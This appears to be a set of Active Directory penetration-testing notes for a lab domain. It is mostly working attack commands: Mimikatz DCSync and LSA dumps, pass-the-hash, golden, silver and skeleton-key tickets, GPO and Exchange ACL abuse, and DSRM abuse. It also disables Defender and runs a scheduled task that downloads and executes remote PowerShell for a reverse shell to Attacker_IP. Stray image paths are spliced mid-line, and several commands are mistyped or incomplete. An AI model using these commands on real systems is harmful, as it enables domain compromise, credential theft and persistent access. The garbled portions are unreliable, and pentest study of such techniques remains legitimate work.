Set-ADACL -SamAccountName <UserName_toGive_Permissions> -DistinguishedName 'DC=steins,DC=local' -server steins.local -GUIDRight DCSync -Verbose#login as the user and run DCSync
Invoke-Mimikatz -Command '"lsadump::dcsync /user:steins.local\krbtgt /domain:steins.local"'

#Geting mailbox account hashes.. when ever a user logins to
Invoke-Mimikatz -Command '"sekurlsa::ekeys"'

#Abusing Exchange if you are part of Exchange Windows Permissions - can modify WriteDACL on all the root level domain objects. which leads to forest compromise.

#Adding an ACL To DC to allow DCSync permissions
Set-ADACL -SamAccountName <UserName_toGive_Permissions> -DistinguishedName 'DC=steins,DC=local' -server steins.local -GUIDRight DCSync -Verbose

#login as the user and run DCSync
Invoke-Mimikatz -Command '"lsadump::dcsync /user:steins.local\krbtgt /domain:steins.local"'

Abusing ACLs on Exchange Srever to gain persistence

#Use the below command on DC as DA to provide studentuser1 WriteDACL permissions on Exchange Windows Permissions group which, in turn, has WriteDACL permission on the domain object (or even forest root domain object depending on the installation).

Set-DCPermissions -Method GroupDACL -DistinguishedName 'CN=Exchange Windows Permissions,OU =Microsoft Exchange Security Groups,DC=steins,DC=local' -SAMAccountName DOMAIN\USERNAME -Verbose

#Use the below command as USER to modify ACL on Exchange Windows Permissions and add WriteMember rights to studentuser1:
Set-ADACL S-amAccountName <USERNAME> -DistinguishedName 'CN=Exchange Windows Permissions,OU =Microsoft Exchange Security Groups,DC=steins,DC =local' -GUIDRight WriteMember -Server steins.local Verbose

Abusing Schema Admins

#Schema admins have access to all the objects in the forest.
$cred = New-ObjectSystem.Management.Automation.PSCredential ("steins.local\USER", (ConvertTo-SecureString "P@ssw0rd" -AsPlainText -Force))

Set-ADObject -Identity "CN=Group,CN=Schema,CN=Configuration,DC=steins,DC=local" -Replace @{defaultSecurityDescriptor = 'D:(A;;RPWPCRCCDCLCLORCWOWDSDDTSW;;;DA)(A;;RPWPCRCCDCLCLORCWOWDSDDTSW;;;SY)(A;;RPLCLORC;;;AU)(A;;RPWPCRCCDCLCLORCWOWDSDDTSW;;;S-1-5-21-854239470-2015502385-3018109401-52104)';} -Verbose -server dc.steins.local -Credential $cred

net group new_admingroup /domain

Add-ADGroupMember new_admingroup -Members emma -Server dc.steins.local -Credential $cred

Abusing Backup Administrator (Backup Operators Group)

#Backup user/administrator has SeBackUpPrivilege Enabled, using it we can abuse GPO and gain access to any machine#Open a shell as a backup user/administrator using mimikatz or rubeus
sekurlsa::pth /user:backup$ /domain:steins.local /ntlm:10b3779e808826431f213e10070b2dadf

#open the shell as system
.\psexec.exe -s -i cmd.exe

#Import SeBackupPrivilegeUtils and enable SeBackupPrivilege Import-Module .\SeBackupPrivilegeUtils.dll
Import-Module .\SeBackupPrivilegeCmdLets.dll

#copy the GPO from DC to local machine
robocopy \\DC.steins.local\sysvol\steins.local\ C:\GroupPolicy\original /b /s

#select a GPO to abuse GPT.ini & GptTmpl.ini files; GptTmpl.inf file contains all the permissions of the users. adding a new acl in the file and replacing it with the original GPO file will grant us acecss to the desired machine/service
notepad "C:\GroupPolicy\original\Policies\{43F46A1-016D-11D2-945F-00C04R47FW459}\MACHINE\Microsoft\Windows NT\SecEdit\GptTmpl.inf"

#You can add something like below. add the user to the desired group [Version]
[Registry Values]
[Group Memership]
*S-1-5-21-997099906-443949041-4154774969-1109__MemberOf = *S-1-5-32-544
*S-1-5-21-997099906-443949041-4154774969-1109__Members =
*S-1-5-32-544__Memberof =
*S-1-5-32-544__Members = *S-1-5-21-997099906-443949041-4154774969-1109

#backup the file
robocopy "\dc.steins.local\sysvol\steins.local\Policies{31B2F340-016D-11D2-945F-00C04FB984F9}" "C:\GroupPolicy" GPT.INI /b

robocopy "\dc.steins.local\sysvol\steins.local\Policies{31B2F340-016D-11D2-945F-00C04FB984F9}\MACHINE\Microsoft\Windows NT\SecEdit" "C:\GroupPolicy" GptTmpl.inf /b

#Restore the file
robocopy "C:\GroupPolicy" "\\steins.megabank.local\sysvol\steins.local\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}" GPT.INI /b

robocopy "C:\GroupPolicy" "\\dc.steins.local\sysvol\steins.local\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\MACHINE\Microsoft\Windows NT\SecEdit" GptTmpl.inf /b

Abusing GMSA by relaying

Import-Module .\Invoke-DNSUpdate.ps1
Invoke-DNSUpdate -DNSType A -DNSName might -DNSData Attacker_IP -Realm steins.local

#Invoke a web request from the service that is usingGMSA
Invoke-WebRequest -uri "http://might.steins.local" -UseDefaultCredentials

#Start capturing the data using ntlmrelayx, if its running as administraor SAM hashes will be dumped
sudo proxychains --dump-gmsa --no-dump --no-da --no-acl --no-validate-privs -debug -t ldaps://GMSA_running_machine_IP

#incase the data is shown as Password blob, you can use below to convert it to ntlm hash
(ConvertFrom-ADManagedPasswordBlob <blob>).SecureCurrentPassword | ConvertTo-NTHash

Golden Ticket Attack - Maintaining Persistence

#Execute Mimikatz on DC as domain admin to get krbtgt hash
Invoke-Mimikatz -Command '"lsadump::lsa /patch"' -Computername dc.steins.local#use DCSync feature to get krbtgt hash from any machine(Need DA privs)
Invoke-Mimikatz -Command '"lsadump::dcsync /user:DOMAIN_NAME\krbtgt"'

#create a golden ticket; for SID - do not add the last 3 digits, it should be added in ID
Invoke-Mimikatz -Command: '"kerberos::golden /User:AnyName /domain=steins.local /sid:S-1-5-21-310201014-2950945941-1969162530 /krbtgt:3fb36f90ad0b20822d7cca4b973e9d14 /id:500 /groups:512 /startoffset:0 /ending:600 /renewmax:10080 /ptt"'

--> run powershell as Admin & Disbale Defender : Set-MpPreference -DisableRealtimeMonitoring $true

Golden Ticket attack Tutorial- Maintaining Persistance & Exploiting a Target:

#Turn off windows defender, need to run as admin
Set-MpPreference -DisableRealtimeMonitoring $true

#login as domain administrator or other user who has admin privs & New Target session starts
Invoke-Mimikatz -Command '"sekurlsa:pth /user:Administrator /domain:steins.local /ntlm:<NTLM_HASH> /run:powershell.exe"'#Log into domain controller and save the session
$sess = New-PSSession -ComputerName dc.steins.local

#User AV Bypass here and load mimikatz on the target machineInvoke-Command -Filepath C:\downloads\Invoke-Mimikatz.ps1 -Session $sess

#Start the session
Enter-PSSession -Session $sess

#Execute Mimikatz on DC as domain admin to get krbtgt hash; copy the krbtgt hash
Invoke-Mimikatz -Command '"lsadump::lsa /patch''

#or run DCSync as Domain Admin to get krbtgt hash
Invoke-Mimikatz -Command '"lsadump::dcsync /user:steins.local\krbtgt"'#create a golden ticket;
# id:500 - optional RID (default 500) and Group Default 513 512 520 518 219
# /ptt = injects the tickets onthe disk /ticket = saves the ticket to a file for later use
#sid = SID of the domain
#startoffset:0 - optional; 0=start from the ticket creation, negative value creates a ticket from past
#ending:600; 600/60mins = 10 hours. its not a good idea to set it for longer duration, EDR can detect it. mimikatz by default set it to 10 years - which can raise a flag for detection.
#renewmax:10080; optional - mimikatz default is 10 years. AD default is 7 days = 100800 minutes

Invoke-Mimikatz -Command: '"kerberos::golden /User:AnyName /domain=somedomian.local /sid:S-1-5-21-310201014-2950945941-1969162530 /krbtgt:3fb36f90ad0b20822d7cca4b973e9d14 /id:500 /groups:512 /startoffset:0 /ending:600 /renewmax:10080 /ptt"'#View cached tickets

Silver Ticket Attack: - Maintaining Persistence

#Get NTLM hash of the service
#Execute Mimikatz on target machine as domain admin to get service account hash
Invoke-Mimikatz -Command '"lsadump::lsa /patch"'

#download the hashes from DC
Invoke-Mimikatz -Command '"lsadump::lsa /patch"' -ComputerName dc.steins.local

#Silver ticket attack
#target - target server FQDN; service: SPN name of service for which TGS is to be created ex: cifs(file system)
#rc4 - hash of the service account

Invoke-Mimikatz -Command: '"kerberos::golden /domain=steins.local /sid:S-1-5-21-310201014-2950945941-1969162530 /target:service2.steins.local /service:cifs /rc4:<NTLM_HASH> /User:Administrator /ptt"'


ls \\steindsdc.steins.local\c$

Command Execution by Scheduling a Task:

--- Silver ticket attack

Invoke-Mimikatz -Command: '"kerberos::golden /domain=steins.local /sid:S-1-5-21-310201014-2950945941-1969162530 /target:steinsdc.steins.local /service:HOST /rc4:<NTLM_HASH> /User:Administrator /ptt"'klist #check available tokens

#start a http server and edit PowershellTCP.ps1, add below line at the end of file
Invoke-PowerShellTcp -Reverse -IPAddress Attacker_IP PORT

schtasks.exe /create /s steindsdc.steins.local /SC Weekely /RU "NT AUTHORITY\SYSTEM" /TN "STCheck" /TR "powershell.exe -c 'iex (New-Object Net.WebClient).DownloadString("")'"

#Run the task:
schtasks /Run /S steinsDC.steins.local /TN "STCheck"

#Get shell on the listenerrlwrap nc -nvlp 443

Skeleton Key- Maintaining Persistence

- Skeleton key is a persistence technique where it is possible to patch a domain controller (lsass process) so that it allows access as any user with a single password.

- Not ALL DC's are affected, only the machines which authenticate to DC's to which we applied this patch would work

#Inject a skeletion key - use any username but the password is mimikatz
Invoke-Mimikatz -Command '"privilege::debug" "misc::skeletion"' -ComputerName SteinsDC.steins.local

#Now you can login into any computer with a valid username and password as "mimikatz"
Enter-PSSession -ComputerName steinsdc.steins.local -Credential steins\AdministratorIn case Lsass is running as Protected Process:
--- we can still use Skeleton Key but it needs mimikatz driver (mimidriv.sys) on disk of the DC. might be detected

!processprotect /process:lsass.exe /remove

Domain Controller DSRM - Maintaining Persistence

#disable AV on the target machine
$sess = New-PSSession - ComputerName dc.steins.local
Invoke-Command -ScriptBlock{
Set-MpPreference -DisableRealtimeMonitoring $true } -Session $sess
Invoke-Command -Session $sess -FilePath c:\Invoke-mimikatz.exe

#Dump DSRM Password: Extracting hashes from SAM hive; Administrator password is the DSRM password

Invoke-Mimikatz -Command '"token::elevate" "lsadump::sam"' -Computername steinsdc.steins.local

#Dump Hashes using Mimikatz:DSRM Account = Local Administrator, find Administrator hash in the dump
Invoke-Mimikatz -Command '"lsadump::lsa /patch"' -Computername steinsdc.steins.local

- we cannot directly use PTH for DSRM account,logon type needs to be changed before using the DSRM hash.

Enter-PSSession -ComputerName stendc.steins.local
New-ItenProperty "HKLM:\System\CurrentControlSet\Control\Lsa\" -Name "DsrmAdminLogonBehavior" -Value 2-PropertType DWORD


Set-ItemProperty "HKLM:\System\CurrentControlSet\Control\Lsa\" -Name "DsrmAdminLogonBehavior" -Value 2

#to view the DSRM Property

Get-ItemProperty "HKLM:\System\CurrentControlSet\Control\Lsa\"

#use DSRM hash to login as Administrator on Domain Controller. use Domain Controller Hostname for domain
Invoke-Mimikatz -Command '"sekurlsa:pth /user:Administrator /domain:steinsDC.steins.local /ntlm:<DSRM_NTLM_HASH> /run:powershell.exe"'

